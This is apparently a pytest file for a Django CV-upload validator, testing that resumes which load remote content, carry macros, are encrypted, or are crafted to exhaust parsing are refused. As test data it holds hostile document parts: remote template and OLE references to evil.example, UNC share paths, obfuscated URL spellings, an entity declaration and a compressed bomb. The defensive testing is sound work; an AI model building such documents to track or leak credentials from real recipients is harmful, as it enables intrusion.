"""What a CV asks of other machines is told from its XML, whatever its spelling, at a cost in line with its size."""

import zipfile
from io import BytesIO
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from applications.cvs.content import CALLS_OUT, HAS_MACROS, IS_LOCKED, WRONG_KIND, kind_of
from applications.cvs.parts import DEEPEST, LARGEST_READ
from applications.enums import CvKind
from benchmarks.calls import calls
from tests.applications.conftest import archive
from tests.hostile.patterns import grows_in_line

TYPES, DOCUMENT = "<Types/>", "<w/>"
OPEN_XML = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODT = CvKind.ODT.content_type


def docx(relations: str | bytes = "", name: str = "word/_rels/settings.xml.rels", types: str | bytes = TYPES) -> bytes:
    files: dict[str, Any] = {"[Content_Types].xml": types, "word/document.xml": DOCUMENT, name: relations}
    return archive(files)


def relation(kind: str, target: str) -> str:
    return f"<Rs><Relationship Type='{OPEN_XML}/{kind}' Target='{target}' TargetMode='External'/></Rs>"


def odt(content: str) -> bytes:
    spaces = "xmlns:d='urn:draw' xmlns:t='urn:text' xmlns:x='urn:xlink'"
    return archive({"mimetype": ODT, "content.xml": f"<o {spaces}>{content}</o>"})


def told(content: bytes) -> str:
    """The sentence of the refusal, or the format."""
    try:
        return str(kind_of(SimpleUploadedFile("cv", content)))
    except ValidationError as refused:
        return str(refused.messages[0])


ACCEPTED = (
    docx(relation("hyperlink", "https://example.org/portfolio")),
    docx(relation("hyperlink", "mailto:ana@example.org"), "word/_rels/document.xml.rels"),
    docx(relation("attachedTemplate", "file:///C:\\Users\\Ana\\Modeles\\cv.dotx")),
    docx("<Rs><R Type='x/image' Target='media/photo.jpg'/></Rs>", "word/_rels/document.xml.rels"),
)
CALLING = (
    docx(relation("attachedTemplate", "https://evil.example/t.dotm")),
    docx(relation("attachedTemplate", "&#104;ttps://evil.example/t.dotm")),
    docx(relation("attachedTemplate", "HTTPS://evil.example/t.dotm").encode("utf-16")),
    docx(relation("attachedTemplate", "\\\\host\\share\\t.dotm")),
    docx(relation("attachedTemplate", "file:////host/share/t.dotm")),
    docx(relation("image", "https://evil.example/pixel.png"), "word/_rels/document.xml.rels"),
    docx(relation("oleObject", "mhtml:https://evil.example!x"), "word/_rels/footer1.xml.rels"),
    docx(relation("attachedTemplate", "https://evil.example/t.dotm"), "WORD/_RELS/Settings.XML.rels"),
    docx(relation("attachedTemplate", "/\\host/share/t.dotm")),
    docx(relation("attachedTemplate", "\\/host/share/t.dotm")),
    docx(relation("attachedTemplate", "\u200b\\\\host\\share\\t.dotm")),
    docx("<!-- " + "x" * 2_100_000 + " -->" + relation("attachedTemplate", "http://evil.example/t")),
)


@pytest.mark.parametrize("content", ACCEPTED, ids=range(len(ACCEPTED)))
def test_an_honest_document_is_taken(content: bytes) -> None:
    assert told(content) == CvKind.DOCX


@pytest.mark.parametrize("content", CALLING, ids=range(len(CALLING)))
def test_a_document_that_calls_out_is_refused(content: bytes) -> None:
    assert told(content) == CALLS_OUT


def test_an_odt_may_link_but_not_load() -> None:
    assert told(odt("<t:a x:href='https://example.org'>Mon site</t:a><d:image x:href='Pictures/1.png'/>")) == CvKind.ODT
    for loaded in ("image", "background-image", "fill-image", "font-face-uri", "event-listener", "auto-reload"):
        assert told(odt(f"<d:{loaded} x:href='https://evil.example/1'/>")) == CALLS_OUT, loaded
    inside = {"mimetype": ODT, "content.xml": "<o/>", "Object 1/content.xml": "<i href='https://evil.example/1'/>"}
    assert told(archive(inside)) == CALLS_OUT
    locked = {"mimetype": ODT, "content.xml": "<o/>", "META-INF/manifest.xml": "<m><encryption-data/></m>"}
    assert told(archive(locked)) == IS_LOCKED


def test_macros_are_told_in_any_encoding() -> None:
    types = "<Types><O ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
    assert told(docx(types=types)) == HAS_MACROS
    assert told(docx(types=types.encode("utf-16"))) == HAS_MACROS


@pytest.mark.parametrize(
    "relations",
    [
        "<Rs",
        "<a>" * (DEEPEST + 1) + "</a>" * (DEEPEST + 1),
        "<!DOCTYPE r [<!ENTITY a 'b'>]><r>&a;</r>",
        "<r>" + " " * LARGEST_READ + "</r>",
        "attachedTemplate" * 9,
    ],
)
def test_what_is_no_plain_xml_is_not_a_cv(relations: str) -> None:
    assert told(docx(relations)) == WRONG_KIND


def test_two_parts_of_one_name_are_refused() -> None:
    packed = BytesIO(docx())
    with zipfile.ZipFile(packed, "a") as file:
        file.writestr("Word/Document.xml", "<other/>")
    assert told(packed.getvalue()) == WRONG_KIND


def test_the_smallest_file_cannot_keep_a_worker_busy() -> None:
    """740 bytes took 46 seconds: two megabytes of one word, packed, were read from each of their beginnings."""
    bomb = docx("<r a='" + "attachedTemplate" * 120_000 + "'/>")
    assert len(bomb) < 8_000
    assert told(bomb) == CvKind.DOCX
    assert calls(lambda: told(bomb)) < 2_000


@pytest.mark.parametrize("pump", ["attachedTemplate", "<R Target='", "<a>", "<a/>", "&#104;", "]]>", "<!--"])
def test_a_part_costs_its_length(pump: str) -> None:
    assert grows_in_line(lambda text: told(docx(f"<r>{text}")), pump)


@pytest.mark.parametrize("pump", ["/Encrypt ", "/Encrypt 1 ", "/Encrypt" + " " * 90, "/Encrypt 1 1 "])
def test_a_pdf_costs_its_length(pump: str) -> None:
    assert grows_in_line(lambda text: told(b"%PDF-1.7\n" + text.encode() + b"\n%%EOF"), pump)
